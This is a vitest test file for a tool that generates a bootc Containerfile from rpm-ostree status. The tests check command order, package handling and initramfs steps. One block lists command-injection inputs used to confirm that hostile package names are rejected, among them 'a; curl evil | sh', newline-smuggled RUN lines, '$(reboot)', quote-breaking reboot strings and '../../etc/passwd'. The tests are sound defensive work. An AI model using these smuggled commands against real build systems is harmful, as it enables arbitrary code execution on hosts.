/** The Containerfile of a plan: what it does in which order, and what is never written into it. */
import { describe, expect, test } from "vitest";
import { UsageError } from "../../harness/base/errors.ts";
import { everyChange } from "../golden/rpm-ostree-status.ts";
import { errorOf, planFor } from "./support/migrate-plan.ts";

describe("the Containerfile", () => {
  test("has every kind of change, in an order that works", () => {
    expect(
      planFor(everyChange).containerfile,
    ).toBe(`# Made by bootgate migrate-plan for deployment fedora-${"a".repeat(64)}.0.
# It is the image of the same system that Fedora's projects publish; look with \`skopeo inspect\` whether it is there and has the label containers.bootc.
FROM quay.io/fedora-ostree-desktops/silverblue:43

# --from-repo: since dnf 5.2.15; before, \`dnf repository-packages\` is the way.
RUN dnf -y distro-sync --from-repo=copr:example mesa-libGL

# Put the RPM files into rpms/replacements/ first:
# podman-5.5.0-1.fc43.x86_64.rpm
COPY rpms/replacements/ /tmp/rpms/replacements/

# Put the RPM files into rpms/local/ first:
# mytool-1.0-1.noarch.rpm
COPY rpms/local/ /tmp/rpms/local/

# One transaction, as it was on the host: nothing goes but what was removed there, and what lacks something then ends the build.
# dnf has \`do\` since 5.2.14; an older one takes the other way to the same.
RUN if dnf do --help >/dev/null 2>&1; then \\
    dnf -y --setopt=clean_requirements_on_remove=False do --action=remove firefox firefox-langpacks --action=install /tmp/rpms/replacements/*.rpm /tmp/rpms/local/*.rpm htop vim-enhanced 'pkgconfig(zlib)'; \\
  else \\
    rpm --erase --nodeps firefox firefox-langpacks && dnf -y install /tmp/rpms/replacements/*.rpm /tmp/rpms/local/*.rpm htop vim-enhanced 'pkgconfig(zlib)' && dnf check --dependencies; \\
  fi && rm -rf /tmp/rpms && dnf clean all

# Put the RPM files into rpms/over-files/ first:
# patched-2.0-1.x86_64.rpm
COPY rpms/over-files/ /tmp/rpms/over-files/
RUN rpm --upgrade --oldpackage --replacepkgs --replacefiles /tmp/rpms/over-files/*.rpm && rm -rf /tmp/rpms

COPY etc/vconsole.conf /etc/vconsole.conf
# Without DRACUT_NO_XATTR dracut loses files where SELinux's attributes cannot be copied, as in a build on a host that has it.
RUN kver=$(ls /usr/lib/modules) && { dracut=/usr/libexec/rpm-ostree/wrapped/dracut; test -x "$dracut" || dracut=dracut; } && \\
    DRACUT_NO_XATTR=1 "$dracut" --force --no-hostonly --reproducible --add ostree --add-drivers 'nvme vfio' --include /etc/vconsole.conf /etc/vconsole.conf "/usr/lib/modules/$kver/initramfs.img" "$kver"

RUN bootc container lint
`);
  });

  const evil = [
    "a; curl evil | sh",
    "a\nRUN curl evil",
    "a\rRUN curl evil",
    "a$(reboot)",
    "a`reboot`",
    "a' && reboot #",
    'a" && reboot',
    "a\\",
    "a<<EOF",
    "--config=/tmp/x",
    "",
    "a b",
    "../../etc/passwd",
    "a\u2028b",
    "a\u0000b",
    "a\u001b[2J",
    "x".repeat(400),
  ];
  test.each([
    ["requested-packages", [...evil, "https://example.org/x.rpm", "x.rpm", "//x/y"]],
    ["requested-local-packages", evil],
    ["requested-local-fileoverride-packages", evil],
    ["requested-base-removals", evil],
    ["requested-base-local-replacements", evil],
    ["requested-modules", evil],
    ["requested-modules-enabled", evil],
    ["initramfs-etc", [...evil, "/etc/../root", "/usr/bin/sh", "/etc/a b"]],
    [
      "initramfs-args",
      ["a\nRUN x", "a<<EOF", "a;b", "$(x)", "`x`", "a\\", "a&b", "a|b", "a>b", ""],
    ],
  ])("is not made with what is not plain in %s", (key, words) => {
    for (const word of words) {
      const error = errorOf(() => planFor({ [key]: ["htop", word] }));
      expect(error.message, word).toContain(`The status has something in '${key}'`);
      expect(error.blame).toBe("caller");
      expect(error.message).not.toMatch(/[\u0000\u001b\r]/);
    }
  });

  test("does not take a replacement without names for one of every package", () => {
    const { containerfile } = planFor({
      "base-remote-replacements": { "repo=x": [] },
      "requested-packages": ["htop"],
    });
    expect(containerfile).not.toContain("distro-sync");
    expect(containerfile).toContain("# What came from 'repo=x' is not named");
  });

  test("is not made with a hostile replacement from a repository", () => {
    const make = (replacements: unknown) => planFor({ "base-remote-replacements": replacements });
    expect(() => make({ "repo=x": ["a; b"] })).toThrow(UsageError);
    const { containerfile } = make({ "repo=x\nRUN evil": ["mesa"] });
    expect(containerfile).not.toMatch(/^RUN evil/m);
    expect(containerfile).toContain("replace them by hand:");
  });

  test("has no line of its own from an identity or a version", () => {
    const { containerfile } = planFor({
      id: "x\nRUN evil",
      version: "1\nRUN evil",
      "requested-packages": ["htop"],
    });
    expect(containerfile).not.toMatch(/^RUN evil/m);
  });

  test("installs files that bring a repository before all that may come from it", () => {
    const { containerfile, needed } = planFor({
      "requested-packages": ["ffmpeg"],
      "requested-base-removals": ["libavcodec-free"],
      "requested-local-packages": [
        "rpmfusion-free-release-43-1.noarch",
        "terra-repos-1:43-2.noarch",
        "release-notes-43-1.noarch",
      ],
    });
    const [first = "", second = ""] = containerfile.split("COPY ").slice(1);
    expect(first).toContain("RUN dnf -y install /tmp/rpms/repositories/*.rpm && rm -rf /tmp/rpms");
    expect(second).toContain("--action=install /tmp/rpms/local/*.rpm ffmpeg;");
    expect(needed.join("\n")).toContain("The RPM files for rpms/repositories/ (2)");
    expect(needed.join("\n")).toContain("The RPM files for rpms/local/ (1)");
  });

  test("has the plain command where nothing was removed", () => {
    const { containerfile } = planFor({ "requested-local-packages": ["mytool-1.0-1.noarch"] });
    expect(containerfile).toContain(
      "RUN dnf -y install /tmp/rpms/local/*.rpm && rm -rf /tmp/rpms && dnf clean all\n",
    );
  });

  test("replaces a kernel by rpm, since dnf would put it beside the base's", () => {
    const { containerfile } = planFor({
      "requested-base-local-replacements": ["kernel-core-6.99-1.x86_64", "podman-5.5.0-1.x86_64"],
    });
    expect(containerfile).toContain(
      "RUN rpm --upgrade --oldpackage --replacepkgs /tmp/rpms/kernel/*.rpm && rm -rf /tmp/rpms\n",
    );
    expect(containerfile).toContain("RUN dnf -y install /tmp/rpms/replacements/*.rpm && ");
  });

  test.each([
    ["vim-enhanced-2:9.1.1000-1.fc43.x86_64", "vim-enhanced-9.1.1000-1.fc43.x86_64.rpm"],
    ["gtk+-4:2.0~rc1-1.fc43.noarch", "gtk+-2.0~rc1-1.fc43.noarch.rpm"],
    ["htop-3.4-1.fc43.x86_64", "htop-3.4-1.fc43.x86_64.rpm"],
    ["java-21-openjdk.x86_64", "java-21-openjdk.x86_64.rpm"],
  ])("asks for %s by the name that its file has", (nevra, file) => {
    const { containerfile } = planFor({ "requested-local-packages": [nevra] });
    expect(containerfile).toMatch(/^# Put the RPM files into rpms\/local\/ first:$/m);
    expect(containerfile.split("\n")).toContain(`# ${file}`);
  });

  test("takes a folder of /etc into the initramfs with what is in it", () => {
    const { containerfile } = planFor({ "initramfs-etc": ["/etc/cmdline.d"] });
    expect(containerfile).toContain("COPY etc/cmdline.d /etc/cmdline.d\n");
    // `--install` makes the folder and leaves it empty.
    expect(containerfile).toContain(" --include /etc/cmdline.d /etc/cmdline.d ");
    expect(containerfile).not.toContain("--install");
  });

  test("asks a repository for what was replaced by its name, whichever version was there", () => {
    const { containerfile } = planFor({
      "base-remote-replacements": {
        "repo=fedora": [
          [["vim-common-2:9.1-1.fc43.x86_64", "vim-common", 2, "9.1", "1.fc43", "x86_64"], []],
          "vim-minimal",
        ],
      },
    });
    // With `--repo` the rest would be missing: dnf 5 then skips all of it, and exits 0.
    expect(containerfile).toContain(
      "RUN dnf -y distro-sync --from-repo=fedora vim-common vim-minimal\n",
    );
    expect(containerfile).not.toMatch(/ --repo=|9\.1/);
  });

  test.each([
    ["requested-packages", "python3dist(uvicorn[standard])", "'python3dist(uvicorn[[]standard])'"],
    ["requested-packages", "python3.14dist(a[b-c])", "'python3.14dist(a[[]b-c])'"],
  ])(
    "takes brackets in %s for what they are, though dnf reads patterns: %s",
    (key, word, written) => {
      expect(planFor({ [key]: [word] }).containerfile).toContain(
        `RUN dnf -y install ${written} && `,
      );
    },
  );
});
